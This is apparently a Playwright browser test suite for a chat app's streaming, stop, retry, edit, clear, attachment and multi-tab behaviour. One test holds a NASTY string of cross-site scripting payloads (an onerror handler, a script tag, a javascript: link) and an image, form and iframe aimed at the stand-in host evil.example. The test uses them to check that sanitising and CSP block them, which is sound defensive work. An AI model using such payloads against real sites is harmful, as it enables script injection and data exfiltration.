"""Chat with both keys: streaming, Stop, retry, edit, Clear, attachments."""

from __future__ import annotations

import asyncio
import base64
import re
import time
from collections.abc import Callable
from pathlib import Path

from playwright.async_api import expect

from tests.browser.conftest import Visit
from tests.browser.contracts import Gemini, HuggingFace, happens
from tests.browser.face import Face
from tests.browser.server import Server
from tests.contracts.gemini import png, says
from tests.contracts.gemini_rules import camel
from tests.contracts.huggingface import cold, paints
from tests.contracts.loopback import Exchange, Gate

AT_ONCE = 2.0
"""Seconds until a stop must be seen, while all cores run tests; a quarter of one is usual."""


def told(exchange: Exchange) -> list[str]:
    """The texts of the conversation as the service got them, in order."""
    parts = [part for content in camel(exchange.json)["contents"] for part in content["parts"]]
    return [part["text"].strip() for part in parts if "text" in part]


async def test_an_answer_grows_before_it_is_whole(visit: Visit, keyed: Server, gemini: Gemini) -> None:
    face, gate = await visit(keyed), Gate()
    gemini.script(says("The moon ", "is far, ", "but near enough.").held(gate, at=2))
    await face.say("how far is the moon?")
    await expect(face.last).to_have_text("The moon is far,")
    await expect(face.stop).to_be_visible()
    gate.open()
    await expect(face.last).to_have_text("The moon is far, but near enough.")
    await face.idle()
    await expect(face.box).to_have_value("")


async def test_what_is_written_meanwhile_stays(visit: Visit, keyed: Server, gemini: Gemini) -> None:
    face, gate = await visit(keyed), Gate()
    gemini.script(says("Once ", "upon.").held(gate))
    await face.say("tell me a story")
    await expect(face.last).to_contain_text("Once")
    await face.say("and then?")
    await expect(face.box).to_have_value("and then?")
    gate.open()
    await face.idle()
    await expect(face.questions).to_have_text(["tell me a story"])
    await expect(face.box).to_have_value("and then?")
    await face.box.press("Enter")
    await expect(face.questions).to_have_text(["tell me a story", "and then?"])
    await face.idle()


NASTY = """<img src=x onerror="window.pwned=1"><script>window.pwned=1</script> [a](javascript:window.pwned=1)
![](https://evil.example/?d=1) <form action="https://evil.example/"><button id="evil">go</button></form>
<iframe src="https://evil.example"></iframe>"""


async def test_what_a_model_writes_runs_nothing_and_calls_nobody(
    visit: Visit, keyed: Server, gemini: Gemini
) -> None:
    face = await visit(keyed, watched=False)
    refused: dict[str, str | None] = {}
    face.page.on("requestfailed", lambda request: refused.update({request.url: request.failure}))
    gone: list[str] = []
    face.page.on("requestfinished", lambda request: gone.append(request.url))
    gemini.script(says(NASTY))
    await face.tell("hi")
    await expect(face.last.locator("a")).not_to_have_attribute("href", re.compile("javascript"))
    await expect(face.last.locator("script, iframe, [onerror]")).to_have_count(0)
    script = "document.querySelector('#evil').click(), [window.pwned, location.href]"
    assert await face.page.evaluate(script) == [None, f"{keyed.url}/"]
    assert refused["https://evil.example/?d=1"] == "csp"
    assert [url for url in gone if not url.startswith(keyed.url)] == []


async def test_a_page_without_its_cookie_says_what_to_do(visit: Visit, plain: Server) -> None:
    face = await visit(plain, "pt-BR", watched=False)
    await face.page.context.clear_cookies()
    await face.say("oi")
    await expect(face.page.get_by_test_id("toast-body")).to_contain_text(face.words["page.no_cookie"])
    await expect(face.box).to_have_value("oi")
    await face.page.reload()
    await face.ready()
    await face.tell("oi")


async def test_stop_ends_the_work_and_keeps_the_words(
    visit: Visit, keyed: Server, gemini: Gemini, record_property: Callable[[str, object], None]
) -> None:
    face, gate = await visit(keyed), Gate()
    gemini.script(says("Once upon a time ", "there was a cat.").held(gate))
    await face.say("tell me a story")
    await expect(face.last).to_contain_text("Once upon a time")
    await happens(gate.reached)
    start = time.monotonic()
    await face.stop.click()
    await happens(gemini.asked[-1].disconnected)
    upstream = time.monotonic() - start
    await expect(face.last).to_contain_text(face.words["status.stopped"])
    seen = time.monotonic() - start
    record_property("stop_upstream_seconds", round(upstream, 3))
    record_property("stop_seen_seconds", round(seen, 3))
    assert upstream < AT_ONCE
    assert seen < AT_ONCE
    await face.idle()
    await expect(face.last).to_contain_text("Once upon a time")
    gemini.script(says("There was a cat."))
    await face.tell("go on", turn=2)
    assert told(gemini.asked[-1]) == ["tell me a story", "Once upon a time", "go on"]


async def test_stop_while_painting_keeps_nothing_of_it(
    visit: Visit, keyed: Server, huggingface: HuggingFace, record_property: Callable[[str, object], None]
) -> None:
    face, gate = await visit(keyed), Gate()
    huggingface.script("nscale", paints().held(gate))
    await face.say("/imagine a cat")
    await happens(gate.reached)
    before = len(keyed.files())
    start = time.monotonic()
    await face.stop.click()
    await expect(face.last).to_contain_text(face.words["status.stopped"])
    seconds = time.monotonic() - start
    record_property("stop_painting_seconds", round(seconds, 3))
    assert seconds < AT_ONCE
    await face.idle()
    gate.open()
    await happens(huggingface.asked[-1].over)
    await face.tell("hi", turn=2)
    assert len(huggingface.asked) == 1
    assert len(keyed.files()) == before
    await expect(face.easel.locator(".easel-empty")).to_be_visible()


async def test_stop_during_a_cold_start_asks_no_more(
    visit: Visit, keyed: Server, huggingface: HuggingFace, gemini: Gemini
) -> None:
    face = await visit(keyed)
    huggingface.script("nscale", cold(50.0), cold(50.0))
    await face.say("/imagine a cat")
    await expect(face.easel.locator(".easel-status")).to_contain_text("cold start")
    await face.stop.click()
    await expect(face.last).to_contain_text(face.words["status.stopped"])
    await face.idle()
    assert len(huggingface.asked) == 1
    await expect(face.easel.locator(".easel-busy")).to_have_count(0)
    await face.chip("retry")
    await expect(face.easel.locator(".easel-status")).to_contain_text("cold start")
    assert len(huggingface.asked) == 2
    await face.stop.click()
    await face.idle()


async def test_retry_asks_again_without_the_first_answer(visit: Visit, keyed: Server, gemini: Gemini) -> None:
    face = await visit(keyed)
    gemini.script(says("First."), says("Second."), says("Third."))
    await face.tell("one")
    await face.tell("two", turn=2)
    await face.page.get_by_role("button", name="Retry").last.click()
    await expect(face.last).to_have_text("Third.")
    await face.idle()
    await expect(face.answers).to_have_count(2)
    assert told(gemini.asked[-1]) == ["one", "First.", "two"]


async def test_an_edited_message_goes_on_from_there(visit: Visit, keyed: Server, gemini: Gemini) -> None:
    face = await visit(keyed)
    gemini.script(says("First."), says("Second."), says("Better."))
    await face.tell("one")
    await face.tell("two", turn=2)
    await edit(face, lambda _: "uno", which=0)
    await expect(face.last).to_have_text("Better.")
    await face.idle()
    await expect(face.answers).to_have_count(1)
    await expect(face.questions).to_have_text(["uno"])
    assert told(gemini.asked[-1]) == ["uno"]


async def edit(face: Face, change: Callable[[str], str], *, which: int) -> str:
    """Change one's own message number `which`; answers what stood in the field before."""
    await face.page.get_by_role("button", name="Edit").nth(which).click()
    field = face.page.locator("#cb textarea")
    before = await field.input_value()
    await field.fill(change(before))
    talk = face.page.locator("#cb")
    await talk.get_by_role("button", name=face.words["labels.submit"]).first.click()
    return before


async def test_clear_forgets_the_conversation_and_keeps_the_picture(
    visit: Visit, keyed: Server, gemini: Gemini, huggingface: HuggingFace
) -> None:
    face = await visit(keyed)
    await face.say("/imagine a cat")
    picture = await face.painted()
    await face.page.locator("#clear").click()
    await expect(face.answers).to_have_count(0)
    await expect(face.easel.locator(".easel-empty")).to_be_visible()
    gemini.script(says("Hello."))
    await face.tell("hi")
    assert told(gemini.asked[-1]) == ["hi"]
    answer = await face.page.request.get(f"{keyed.url}/media/{picture}")
    assert answer.status == 200


async def test_clear_in_the_middle_ends_the_work(visit: Visit, keyed: Server, gemini: Gemini) -> None:
    face, gate = await visit(keyed), Gate()
    gemini.script(says("Once ", "upon").held(gate))
    await face.say("tell me a story")
    await expect(face.last).to_contain_text("Once")
    await face.page.locator("#clear").click()
    await happens(gemini.asked[-1].disconnected)
    await expect(face.answers).to_have_count(0)
    await face.idle()
    gemini.script(says("Hello."))
    await face.tell("hi")
    assert told(gemini.asked[-1]) == ["hi"]


async def test_an_attached_picture_reaches_the_assistant(
    visit: Visit, keyed: Server, gemini: Gemini, tmp_path: Path
) -> None:
    face, original = await visit(keyed), png(48, (200, 30, 60))
    (tmp_path / "red.png").write_bytes(original)
    gemini.script(says("A red square."), says("Still red."))
    await face.page.locator("#tx input[type=file]").set_input_files(tmp_path / "red.png")
    await expect(face.page.locator("#tx img")).to_be_visible()
    await face.tell("what is this?")
    assert pictures(gemini.asked[-1]) == [original]
    shown = face.questions.last.locator("img")
    await expect(shown).to_have_js_property("naturalWidth", 48)
    before = await edit(face, lambda text: text.replace("what is this?", "what colour is it?"), which=0)
    assert before.startswith("what is this?")
    await expect(face.last).to_have_text("Still red.")
    assert told(gemini.asked[-1]) == ["what colour is it?"]
    assert pictures(gemini.asked[-1]) == [original]


def pictures(exchange: Exchange) -> list[bytes]:
    """The pictures in the newest message that the service got."""
    parts = camel(exchange.json)["contents"][-1]["parts"]
    return [base64.urlsafe_b64decode(part["inlineData"]["data"]) for part in parts if "inlineData" in part]


async def test_a_broken_attachment_is_said_and_the_words_stay(
    visit: Visit, keyed: Server, gemini: Gemini, tmp_path: Path
) -> None:
    face = await visit(keyed)
    (tmp_path / "torn.png").write_bytes(png()[:60])
    await face.page.locator("#tx input[type=file]").set_input_files(tmp_path / "torn.png")
    await face.say("what is this?")
    await expect(face.last).to_contain_text("torn.png")
    await face.idle()
    await expect(face.box).to_have_value("what is this?")
    assert gemini.asked == []


async def test_a_command_in_the_middle_of_a_sentence_is_chat(
    visit: Visit, keyed: Server, gemini: Gemini, huggingface: HuggingFace
) -> None:
    face = await visit(keyed)
    answer = await face.tell("please /imagine a cat")
    assert answer == "You said: please /imagine a cat"
    assert huggingface.asked == []


async def test_a_closed_tab_ends_the_work(
    visit: Visit, keyed: Server, gemini: Gemini, record_property: Callable[[str, object], None]
) -> None:
    face, gate = await visit(keyed), Gate()
    gemini.script(says("Once ", "upon").held(gate))
    await face.say("tell me a story")
    await expect(face.last).to_contain_text("Once")
    start = time.monotonic()
    await face.page.close()
    await happens(gemini.asked[-1].disconnected)
    seconds = time.monotonic() - start
    record_property("closed_tab_seconds", round(seconds, 3))
    assert seconds < 2


async def test_a_reload_keeps_what_was_said(visit: Visit, keyed: Server, gemini: Gemini) -> None:
    face = await visit(keyed)
    gemini.script(says("Hello there."))
    await face.tell("hi")
    await face.say("/imagine a cat")
    picture = await face.painted()
    await face.page.reload()
    await face.ready()
    await expect(face.questions).to_have_text(["hi", "/imagine a cat"])
    await expect(face.answers.first).to_have_text("Hello there.")
    assert await face.painted() == picture


async def test_a_reload_in_the_middle_shows_how_it_ended(visit: Visit, keyed: Server, gemini: Gemini) -> None:
    face, gate = await visit(keyed), Gate()
    gemini.script(says("Once ", "upon").held(gate))
    await face.say("tell me a story")
    await expect(face.last).to_contain_text("Once")
    await face.page.reload()
    await face.ready()
    await expect(face.last).to_contain_text(face.words["status.stopped"])
    await expect(face.chip_of("retry")).to_be_visible()
    await face.idle()


async def test_a_second_tab_follows_and_may_stop(visit: Visit, keyed: Server, gemini: Gemini) -> None:
    first, gate = await visit(keyed), Gate()
    gemini.script(says("Once ", "upon ", "a time.").held(gate))
    await first.say("tell me a story")
    await expect(first.last).to_contain_text("Once")
    second = await visit(keyed, context=first.page.context)
    await expect(second.last).to_contain_text("Once")
    await second.stop.click()
    await happens(gemini.asked[-1].disconnected)
    for face in (first, second):
        await expect(face.last).to_contain_text(face.words["status.stopped"])
        await face.idle()


async def test_many_tabs_all_work(visit: Visit, keyed: Server, gemini: Gemini) -> None:
    first = await visit(keyed)
    tabs = [first, *[await visit(keyed, context=first.page.context) for _ in range(5)]]
    for number, face in enumerate(tabs, 1):
        await face.page.bring_to_front()
        assert await face.tell(f"tab {number}", turn=number) == f"You said: tab {number}"
    await asyncio.gather(*(face.page.close() for face in tabs))
